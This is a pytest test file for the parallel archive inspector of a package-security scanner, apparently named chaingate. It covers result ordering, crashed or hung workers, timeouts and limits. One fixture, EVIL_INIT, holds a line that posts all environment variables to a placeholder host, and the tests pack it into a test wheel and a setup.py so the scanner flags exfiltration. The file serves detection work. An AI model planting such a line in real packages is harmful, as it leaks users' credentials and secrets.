"""`inspect_many`: many packages across worker processes, results in input order, and one
archive that kills its worker costs that archive only. Every sample is inert text."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest

from chaingate.analysis.archive import pool as parallel
from chaingate.analysis.archive.pool import inspect_many
from chaingate.analysis.inspect import Inspection, inspect_path
from chaingate.analysis.interface import Limits
from chaingate.core.findings import Severity

EVIL_INIT = b"""
import os, requests
requests.post("https://collect.example.invalid/", data=dict(os.environ))
"""
HEALTHY_INIT = b'''"""A healthy library."""
def add(a, b):
    return a + b
'''


def wheel(tmp_path: Path, name: str, init: bytes) -> Path:
    path = tmp_path / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{name}/__init__.py", init)
    return path


def corpus(tmp_path: Path) -> list[Path]:
    return [
        wheel(tmp_path, "alpha", HEALTHY_INIT),
        wheel(tmp_path, "evil", EVIL_INIT),
        wheel(tmp_path, "crash", HEALTHY_INIT),
        wheel(tmp_path, "beta", HEALTHY_INIT * 50),  # the largest: submitted first
        wheel(tmp_path, "gamma", HEALTHY_INIT),
    ]


# Jobs for worker processes: module-level, so that a spawned worker can import them.


def crashing_job(target: Path, limits: Limits | None) -> Inspection:
    """Dies like a segfault or the out-of-memory killer would, on archives named crash*."""
    if target.name.startswith("crash"):
        os._exit(70)
    return inspect_path(target, limits)


def hanging_job(target: Path, limits: Limits | None) -> Inspection:
    """Spins like a detector caught in a pathological input, on archives named hang*."""
    if target.name.startswith("hang"):
        while True:
            pass
    return inspect_path(target, limits)


def raising_job(target: Path, limits: Limits | None) -> Inspection:
    if target.name.startswith("crash"):
        raise RuntimeError("a bug in a detector")
    return inspect_path(target, limits)


def test_results_match_inspect_path_in_input_order(tmp_path: Path) -> None:
    targets = [t for t in corpus(tmp_path) if not t.name.startswith("crash")]
    (tmp_path / "srcdir").mkdir()
    (tmp_path / "srcdir" / "setup.py").write_bytes(EVIL_INIT)
    targets.append(tmp_path / "srcdir")
    results = inspect_many(targets, workers=2)
    assert results == [inspect_path(t) for t in targets]
    assert [r.target for r in results] == [str(t) for t in targets]
    evil = results[1]
    assert evil.verdict == Severity.CRITICAL
    assert {f.id for f in evil.findings} >= {"exfiltration"}


def test_a_worker_that_dies_costs_only_its_own_archive(tmp_path: Path) -> None:
    targets = corpus(tmp_path)
    results = parallel._run(targets, 2, None, crashing_job)
    assert [r.target for r in results] == [str(t) for t in targets]
    crashed = results[2]
    (failed,) = crashed.findings
    assert failed.id == "analysis-failed" and failed.severity == Severity.HIGH
    assert "died" in failed.message and crashed.verdict == Severity.HIGH
    for target, result in zip(targets, results, strict=True):
        if target.name.startswith("crash"):
            continue
        assert result == inspect_path(target), target.name


def test_two_crashing_archives_in_one_batch(tmp_path: Path) -> None:
    targets = [*corpus(tmp_path), wheel(tmp_path, "crash2", HEALTHY_INIT)]
    results = parallel._run(targets, 2, None, crashing_job)
    failed = [r.target for r in results if r.findings and r.findings[0].id == "analysis-failed"]
    assert sorted(failed) == sorted(str(t) for t in targets if t.name.startswith("crash"))
    assert results[1].verdict == Severity.CRITICAL  # evil is still analysed


def test_an_exception_in_a_worker_is_a_finding_for_that_target(tmp_path: Path) -> None:
    targets = corpus(tmp_path)
    results = parallel._run(targets, 2, None, raising_job)
    (failed,) = results[2].findings
    assert failed.id == "analysis-failed" and "a bug in a detector" in failed.message
    assert results[0] == inspect_path(targets[0])


def test_a_missing_file_is_a_clear_finding_not_an_exception(tmp_path: Path) -> None:
    missing = tmp_path / "gone-1.0-py3-none-any.whl"
    results = inspect_many([missing, wheel(tmp_path, "alpha", HEALTHY_INIT)], workers=2)
    (failed,) = results[0].findings
    assert failed.id == "analysis-failed" and "FileNotFoundError" in failed.message
    assert results[1].verdict is None


def test_a_single_target_runs_in_this_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A worker process would not see the monkeypatched function.
    seen: list[Path] = []

    def fake(target: Path, limits: Limits | None = None) -> Inspection:
        seen.append(target)
        return Inspection(str(target), None, (), 0, 0)

    monkeypatch.setattr(parallel, "inspect_path", fake)
    target = wheel(tmp_path, "alpha", HEALTHY_INIT)
    assert inspect_many([target], workers=4) == [Inspection(str(target), None, (), 0, 0)]
    assert inspect_many([target, target], workers=1)[1].target == str(target)
    assert seen == [target, target, target]
    assert inspect_many([]) == []


def test_limits_reach_the_workers(tmp_path: Path) -> None:
    targets = [wheel(tmp_path, "alpha", HEALTHY_INIT), wheel(tmp_path, "beta", HEALTHY_INIT)]
    results = inspect_many(targets, workers=2, limits=Limits(max_files=0))
    for result in results:
        (refused,) = result.findings
        assert refused.id == "hostile-archive" and "too many files" in refused.message


def test_workers_must_be_positive(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="at least 1"):
        inspect_many([tmp_path], workers=0)


def test_an_archive_that_never_finishes_is_failed_and_the_rest_go_on(tmp_path: Path) -> None:
    targets = [
        wheel(tmp_path, "alpha", HEALTHY_INIT),
        wheel(tmp_path, "hang", HEALTHY_INIT * 80),  # the largest: runs first
        wheel(tmp_path, "evil", EVIL_INIT),
        wheel(tmp_path, "gamma", HEALTHY_INIT),
    ]
    results = parallel._run(targets, 2, None, hanging_job, timeout=3.0)
    assert [Path(r.target).name for r in results] == [t.name for t in targets]
    (failed,) = results[1].findings
    assert failed.id == "analysis-failed" and "timed out after 3 s" in failed.message
    assert results[1].verdict == Severity.HIGH  # not clean
    assert results[2].verdict is not None and results[2].verdict >= Severity.HIGH
    assert results[0].findings == () and results[3].findings == ()
    # Alone, as after a crash, the same limit holds.
    alone = parallel._alone(targets[1], None, hanging_job, timeout=2.0)
    assert "timed out" in alone.findings[0].message
